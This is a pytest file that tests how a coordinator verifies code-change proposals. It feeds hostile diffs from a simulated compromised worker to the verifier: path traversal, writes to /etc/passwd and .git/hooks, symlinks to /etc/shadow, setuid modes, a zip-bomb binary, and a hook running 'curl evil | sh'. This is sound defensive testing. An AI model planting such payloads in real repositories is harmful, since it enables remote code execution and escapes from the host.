"""Proposal verification: integrity gates and adversarial policy rules, each
rejected with its own code, on real git repositories."""
from __future__ import annotations

import os
import zlib
from pathlib import Path

import pytest

from coordinator.integration.gitio import ObjectReader
from coordinator.integration.policy import IntegrationPolicy
from coordinator.integration.proposals import BaseInspector, verify_proposal
from registry import diffs
from tests.conftest import git
from tests.integration.conftest import edit_line, head, make_proposal

POLICY = IntegrationPolicy()


def _verify(repo: Path, proposal: dict, diff: bytes | None, policy: IntegrationPolicy = POLICY,
            wave_base: str | None = None):
    with ObjectReader(repo) as reader:
        insp = BaseInspector(repo, reader)
        return verify_proposal(proposal, diff, wave_base=wave_base or head(repo), policy=policy,
                               inspector=insp)


def _codes(rejections) -> set[str]:
    return {r.code for r in rejections}


def _raw_proposal(repo: Path, pid: str, diff: bytes, **kw) -> dict:
    base = head(repo)
    return {"proposal_id": pid, "base_ref": base,
            "base_tree_hash": git(repo, "rev-parse", base + "^{tree}"),
            "diff_canonicalization": diffs.DIFF_CANONICALIZATION,
            "diff_digest": diffs.diff_digest(diff), "touched_files": diffs.touched_files(diff),
            "risk": "low", "declared_constraints": {}, **kw}


def test_clean_proposal_passes(big_repo: Path) -> None:
    prop, diff = make_proposal(big_repo, "p1", edit_line("f01.txt", 5, "new"))
    rej, checked = _verify(big_repo, prop, diff)
    assert rej == [] and checked is not None
    assert checked.fingerprints[0]["range_hint"] == {"start": 2, "end": 8}


def test_diff_altered_after_digesting_is_rejected(big_repo: Path) -> None:
    prop, diff = make_proposal(big_repo, "p1", edit_line("f01.txt", 5, "new"))
    tampered = diff.replace(b"+new", b"+evil")
    rej, checked = _verify(big_repo, prop, tampered)
    assert checked is None and "PROPOSAL_DIGEST_MISMATCH" in _codes(rej)


def test_wrong_base_is_rejected(big_repo: Path) -> None:
    old = head(big_repo)
    prop, diff = make_proposal(big_repo, "p1", edit_line("f01.txt", 5, "new"))
    (big_repo / "f02.txt").write_text("moved on\n")
    git(big_repo, "commit", "-qam", "next")
    rej, _ = _verify(big_repo, prop, diff)  # wave base is the new head
    assert _codes(rej) == {"PROPOSAL_WRONG_BASE"}
    rej, _ = _verify(big_repo, {**prop, "base_ref": "main"}, diff)
    assert "PROPOSAL_BASE_NOT_SHA" in _codes(rej)
    rej, _ = _verify(big_repo, {**prop, "base_tree_hash": "0" * 40}, diff, wave_base=old)
    assert _codes(rej) == {"PROPOSAL_TREE_MISMATCH"}
    rej, _ = _verify(big_repo, {**prop, "base_ref": "1" * 40}, diff, wave_base="1" * 40)
    assert _codes(rej) == {"PROPOSAL_BASE_UNKNOWN"}


def test_apply_check_runs_against_the_exact_base(big_repo: Path) -> None:
    base = head(big_repo)
    prop, diff = make_proposal(big_repo, "p1", edit_line("f01.txt", 5, "new"))
    # same preimage id claimed, but the context lines were edited by hand
    bad = diff.replace(b" file 1 line 4\n", b" file 1 line 4 (not in base)\n")
    bad_prop = {**prop, "diff_digest": diffs.diff_digest(bad)}
    rej, _ = _verify(big_repo, bad_prop, bad, wave_base=base)
    assert "PROPOSAL_APPLY_CHECK_FAILED" in _codes(rej)


def test_missing_or_unknown_canonicalization(big_repo: Path) -> None:
    prop, diff = make_proposal(big_repo, "p1", edit_line("f01.txt", 5, "new"))
    assert _codes(_verify(big_repo, prop, None)[0]) == {"PROPOSAL_DIFF_MISSING"}
    rej, _ = _verify(big_repo, {**prop, "diff_canonicalization": "raw"}, diff)
    assert _codes(rej) == {"PROPOSAL_CANONICALIZATION_UNSUPPORTED"}
    rej, _ = _verify(big_repo, {**prop, "touched_files": ["other.txt"]}, diff)
    assert _codes(rej) == {"PROPOSAL_TOUCHED_FILES_MISMATCH"}


# ---------------------------------------------------------------------------
# hostile proposals: hand-written diffs a compromised worker could send


def _new_file_diff(path: str, content: bytes, mode: str = "100644") -> bytes:
    oid = diffs.ObjectWriter_hash("blob", content) if hasattr(diffs, "ObjectWriter_hash") else \
        __import__("hashlib").sha1(b"blob %d\x00" % len(content) + content).hexdigest()
    lines = content.split(b"\n")
    body = b"".join(b"+" + ln + b"\n" for ln in (lines[:-1] if content.endswith(b"\n") else lines))
    if not content.endswith(b"\n"):
        body += b"\\ No newline at end of file\n"
    n = len(lines) - 1 if content.endswith(b"\n") else len(lines)
    rng = b"1" if n == 1 else b"1,%d" % n
    q = diffs.quote_path(path)
    a = b'"a/' + q[1:] if q.startswith(b'"') else b"a/" + q
    b = b'"b/' + q[1:] if q.startswith(b'"') else b"b/" + q
    return (b"diff --git " + a + b" " + b + b"\nnew file mode " + mode.encode() + b"\nindex "
            + b"0" * 40 + b".." + oid.encode() + b"\n--- /dev/null\n+++ " + b + b"\n@@ -0,0 +"
            + rng + b" @@\n" + body)


@pytest.mark.parametrize("path,code", [
    ("../outside.txt", "POLICY_PATH_TRAVERSAL"),
    ("a/../../outside.txt", "POLICY_PATH_TRAVERSAL"),
    (".git/hooks/pre-commit", "POLICY_PATH_GIT_DIR"),
    ("sub/.GIT/config", "POLICY_PATH_GIT_DIR"),
    ("/etc/passwd", "POLICY_PATH_ABSOLUTE"),
    (".gitmodules", "POLICY_GITLINK"),
])
def test_hostile_paths_are_rejected(git_repo: Path, path: str, code: str) -> None:
    diff = _new_file_diff(path, b"#!/bin/sh\necho pwned\n")
    prop = _raw_proposal(git_repo, "evil", diff)
    rej, checked = _verify(git_repo, prop, diff)
    assert checked is None and code in _codes(rej), rej


def test_write_to_git_hooks_is_rejected(git_repo: Path) -> None:
    diff = _new_file_diff(".git/hooks/post-checkout", b"#!/bin/sh\ncurl evil | sh\n", "100755")
    rej, _ = _verify(git_repo, _raw_proposal(git_repo, "hook", diff), diff)
    assert {"POLICY_PATH_GIT_DIR", "POLICY_MODE_EXEC"} <= _codes(rej)


@pytest.mark.parametrize("target,code", [
    (b"/etc/shadow", "POLICY_SYMLINK_ESCAPE"),
    (b"../../home", "POLICY_SYMLINK_ESCAPE"),
    (b"sub/../../x", "POLICY_SYMLINK_ESCAPE"),
    (b".git/config", "POLICY_SYMLINK_ESCAPE"),
])
def test_symlink_escape_is_rejected(git_repo: Path, target: bytes, code: str) -> None:
    diff = _new_file_diff("link", target, "120000")
    rej, _ = _verify(git_repo, _raw_proposal(git_repo, "link", diff), diff)
    assert code in _codes(rej)


def test_symlink_inside_repo_is_allowed(git_repo: Path) -> None:
    prop, diff = make_proposal(git_repo, "ok-link", lambda r: os.symlink("README.md", r / "link"))
    rej, checked = _verify(git_repo, prop, diff)
    assert rej == [] and checked is not None


def test_write_through_a_base_symlink_is_rejected(git_repo: Path) -> None:
    os.symlink("/tmp", git_repo / "tmp")
    git(git_repo, "add", "-A")
    git(git_repo, "commit", "-qm", "link")
    diff = _new_file_diff("tmp/dropped.txt", b"x\n")
    rej, _ = _verify(git_repo, _raw_proposal(git_repo, "through", diff), diff)
    assert "POLICY_PATH_THROUGH_SYMLINK" in _codes(rej)


def test_gitlink_is_rejected(git_repo: Path) -> None:
    oid = "1" * 40
    diff = (b"diff --git a/vendor/lib b/vendor/lib\nnew file mode 160000\nindex " + b"0" * 40
            + b".." + oid.encode() + b"\n--- /dev/null\n+++ b/vendor/lib\n@@ -0,0 +1 @@\n"
            b"+Subproject commit " + oid.encode() + b"\n")
    rej, _ = _verify(git_repo, _raw_proposal(git_repo, "gitlink", diff), diff)
    assert "POLICY_GITLINK" in _codes(rej)


@pytest.mark.parametrize("mode,code", [("104755", "POLICY_MODE_SETUID"),
                                       ("102755", "POLICY_MODE_SETUID"),
                                       ("100777", "POLICY_MODE_INVALID")])
def test_setuid_and_odd_modes_are_rejected(git_repo: Path, mode: str, code: str) -> None:
    blob = git(git_repo, "rev-parse", "HEAD:README.md")
    diff = (b"diff --git a/README.md b/README.md\nold mode 100644\nnew mode " + mode.encode() + b"\n")
    prop = _raw_proposal(git_repo, "suid", diff)
    rej, _ = _verify(git_repo, prop, diff)
    assert code in _codes(rej)
    assert blob


def test_exec_bit_only_when_policy_allows(git_repo: Path) -> None:
    prop, diff = make_proposal(git_repo, "exec", lambda r: os.chmod(r / "README.md", 0o755))
    assert _codes(_verify(git_repo, prop, diff)[0]) == {"POLICY_MODE_EXEC"}
    assert _verify(git_repo, prop, diff, POLICY.with_(allow_exec_bit=True))[0] == []


def test_an_apply_failure_is_reported_unless_a_policy_rule_already_refused(git_repo: Path) -> None:
    """A policy refusal is the reason to give; a diff that breaks no rule yet does not
    apply to its base (or is also wrong in itself) must say it does not apply."""
    from coordinator.integration.proposals import BaseFacts, check_proposal
    prop, diff = make_proposal(git_repo, "exec", lambda r: os.chmod(r / "README.md", 0o755))
    facts = BaseFacts(commit_exists=True, tree_hash=prop["base_tree_hash"], apply_check_ok=False,
                      apply_check_error="patch does not apply")

    def codes(p: dict) -> set[str]:
        return _codes(check_proposal(p, diff, wave_base=prop["base_ref"], facts=facts, policy=POLICY)[0])

    assert codes(prop) == {"POLICY_MODE_EXEC"}
    lying = {**prop, "touched_files": ["other.txt"]}  # an integrity fault, no policy rule broken
    assert codes(lying) == {"POLICY_MODE_EXEC", "PROPOSAL_TOUCHED_FILES_MISMATCH"}
    ok = POLICY.with_(allow_exec_bit=True)
    assert _codes(check_proposal(lying, diff, wave_base=prop["base_ref"], facts=facts, policy=ok)[0]) == {
        "PROPOSAL_TOUCHED_FILES_MISMATCH", "PROPOSAL_APPLY_CHECK_FAILED"}
    assert _codes(check_proposal(prop, diff, wave_base=prop["base_ref"], facts=facts, policy=ok)[0]) == {
        "PROPOSAL_APPLY_CHECK_FAILED"}


def test_a_preimage_blob_other_than_the_bases_is_refused(git_repo: Path) -> None:
    """The `index` line names the blob the diff was made against: one that is not the base's
    blob at that path is another file, even when the hunks happen to apply."""
    from coordinator.integration.proposals import BaseFacts, check_proposal
    prop, diff = make_proposal(git_repo, "edit", lambda r: (r / "README.md").write_text("changed\n"))
    have = git(git_repo, "rev-parse", "HEAD:README.md")
    assert f"index {have[:7]}".encode() in diff or f"index {have}".encode() in diff

    def codes(base_oid: str) -> set[str]:
        facts = BaseFacts(commit_exists=True, tree_hash=prop["base_tree_hash"], apply_check_ok=True,
                          base_oids={"README.md": base_oid})
        return _codes(check_proposal(prop, diff, wave_base=prop["base_ref"], facts=facts, policy=POLICY)[0])

    assert codes(have) == set()
    assert codes("f" * 40) == {"PROPOSAL_PREIMAGE_MISMATCH"}


def test_the_apply_check_refuses_a_diff_made_against_another_blob(git_repo: Path) -> None:
    """`apply_check` answers for exactly the base: hunks that would apply are not enough
    when the diff names a preimage blob other than the base's."""
    _prop, diff = make_proposal(git_repo, "edit", lambda r: (r / "README.md").write_text("changed\n"))
    have = git(git_repo, "rev-parse", "HEAD:README.md")
    other = "e" * 40
    with ObjectReader(git_repo) as reader:
        insp = BaseInspector(git_repo, reader)
        assert insp.apply_check(head(git_repo), diffs.parse_diff(diff)) == (True, "")
        ok, why = insp.apply_check(head(git_repo), diffs.parse_diff(diff.replace(have.encode(), other.encode())))
    assert not ok and "preimage" in why


def test_the_apply_check_refuses_what_the_base_cannot_take(git_repo: Path) -> None:
    """Each file of a diff is checked against the base: a new file the base already has, an
    edit of a file it lacks, and an unknown base, whatever comes before them in the diff."""
    _p, create = make_proposal(git_repo, "new", lambda r: (r / "A.txt").write_text("a\n"))
    _p, edit = make_proposal(git_repo, "edit", lambda r: (r / "README.md").write_text("changed\n"))
    gone = edit.replace(b"README.md", b"ghost.md")
    other = edit.replace(git(git_repo, "rev-parse", "HEAD:README.md").encode(), b"e" * 40)
    with ObjectReader(git_repo) as reader:
        insp = BaseInspector(git_repo, reader)
        base = head(git_repo)
        assert insp.apply_check(base, diffs.parse_diff(create + edit)) == (True, "")
        assert insp.apply_check(base, diffs.parse_diff(create + other))[0] is False  # after a new file
        assert insp.apply_check(base, diffs.parse_diff(create + gone)) == (False, "ghost.md does not exist at base")
        git(git_repo, "add", "-A")
        (git_repo / "A.txt").write_text("a\n")
        git(git_repo, "add", "A.txt")
        git(git_repo, "commit", "-qm", "A")
        insp2 = BaseInspector(git_repo, reader)
        assert insp2.apply_check(head(git_repo), diffs.parse_diff(create)) == (False, "A.txt already exists")
        assert insp2.apply_check("1" * 40, diffs.parse_diff(edit)) == (False, "base commit unknown")


def test_a_binary_delta_that_does_not_apply_to_its_base_is_refused(git_repo: Path) -> None:
    """Binary sections are apply-checked by git against the base; naming the right
    preimage blob is not enough when the delta itself is broken."""
    import random
    data = random.Random(1).randbytes(20000)
    (git_repo / "b.bin").write_bytes(data)
    git(git_repo, "add", "b.bin")
    git(git_repo, "commit", "-qm", "binary")
    prop, diff = make_proposal(git_repo, "delta", lambda r: (r / "b.bin").write_bytes(data[:100] + b"!" + data[101:]))
    assert b"\ndelta " in diff
    assert _verify(git_repo, prop, diff)[0] == []
    lines = diff.split(b"\n")
    k = next(i for i, ln in enumerate(lines) if ln.startswith(b"delta ")) + 1
    lines[k] = lines[k][:1] + bytes(reversed(lines[k][1:]))  # same length, other bytes
    broken = b"\n".join(lines)
    rej, _ = _verify(git_repo, {**prop, "diff_digest": diffs.diff_digest(broken)}, broken)
    assert _codes(rej) == {"PROPOSAL_APPLY_CHECK_FAILED"}


def test_declared_no_binary_refuses_binary_changes_only(git_repo: Path) -> None:
    text, tdiff = make_proposal(git_repo, "text", edit_line("README.md", 1, "new"),
                                declared_constraints={"no_binary": True})
    assert _verify(git_repo, text, tdiff)[0] == []
    binary, bdiff = make_proposal(git_repo, "bin", lambda r: (r / "x.bin").write_bytes(b"\x00\x01" * 10),
                                  declared_constraints={"no-binary": True})
    rej, _ = _verify(git_repo, binary, bdiff)
    assert _codes(rej) == {"POLICY_CONSTRAINT_NO_BINARY"} and rej[0].details["paths"] == ["x.bin"]
    assert _verify(git_repo, {**binary, "declared_constraints": {}}, bdiff)[0] == []


def test_200_mb_blob_is_rejected_without_inflating_it(git_repo: Path) -> None:
    size = 200 * 1024 * 1024
    comp = zlib.compressobj(1)
    chunk = bytes(1 << 20)
    data = b"".join(comp.compress(chunk) for _ in range(200)) + comp.flush()
    b85 = []
    for k in range(0, len(data), 52):
        part = data[k:k + 52]
        n = len(part)
        head_ch = chr(ord("A") + n - 1) if n <= 26 else chr(ord("a") + n - 27)
        b85.append(head_ch.encode() + _b85(part))
    oid = "2" * 40
    diff = (b"diff --git a/big.bin b/big.bin\nnew file mode 100644\nindex " + b"0" * 40 + b".."
            + oid.encode() + b"\nGIT binary patch\nliteral %d\n" % size + b"\n".join(b85)
            + b"\n\nliteral 0\nHcmV?d00001\n\n")
    assert len(diff) < 2_000_000  # cheap to generate and to ship
    rej, _ = _verify(git_repo, _raw_proposal(git_repo, "big", diff), diff)
    assert "POLICY_BINARY_TOO_LARGE" in _codes(rej)
    # a literal that lies about its size (zip bomb under a small header) is caught too
    lie = diff.replace(b"literal %d\n" % size, b"literal 10\n", 1)
    rej, _ = _verify(git_repo, _raw_proposal(git_repo, "bomb", lie), lie)
    # a size rule, not a broken diff: it is a policy refusal like the honest header's
    assert [(r.code, r.reason) for r in rej if r.code == "POLICY_BINARY_TOO_LARGE"] == [
        ("POLICY_BINARY_TOO_LARGE", "policy")]


def _b85(part: bytes) -> bytes:
    alphabet = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~"
    part = part + b"\0" * (-len(part) % 4)
    out = bytearray()
    for k in range(0, len(part), 4):
        acc = int.from_bytes(part[k:k + 4], "big")
        chars = []
        for _ in range(5):
            acc, r = divmod(acc, 85)
            chars.append(alphabet[r])
        out += bytes(reversed(chars))
    return bytes(out)


def test_total_size_limit(big_repo: Path) -> None:
    prop, diff = make_proposal(big_repo, "p1", edit_line("f01.txt", 5, "x" * 5000))
    rej, _ = _verify(big_repo, prop, diff, POLICY.with_(max_total_bytes=1000))
    assert _codes(rej) == {"POLICY_DIFF_TOO_LARGE"}


def test_dependency_files_gated_by_risk_and_constraints(git_repo: Path) -> None:
    change = lambda r: (r / "requirements.txt").write_text("requests==2.0\n")  # noqa: E731
    low, diff = make_proposal(git_repo, "deps-low", change, risk="low")
    assert _codes(_verify(git_repo, low, diff)[0]) == {"POLICY_DEPENDENCY_FILE"}
    med = {**low, "risk": {"level": "medium", "deps_touched": True}}
    assert _verify(git_repo, med, diff)[0] == []
    nodeps = {**med, "declared_constraints": {"no_deps": True}}
    assert _codes(_verify(git_repo, nodeps, diff)[0]) == {"POLICY_CONSTRAINT_NO_DEPS"}
    lock = {**med, "declared_constraints": ["no-deps"]}
    assert _codes(_verify(git_repo, lock, diff)[0]) == {"POLICY_CONSTRAINT_NO_DEPS"}
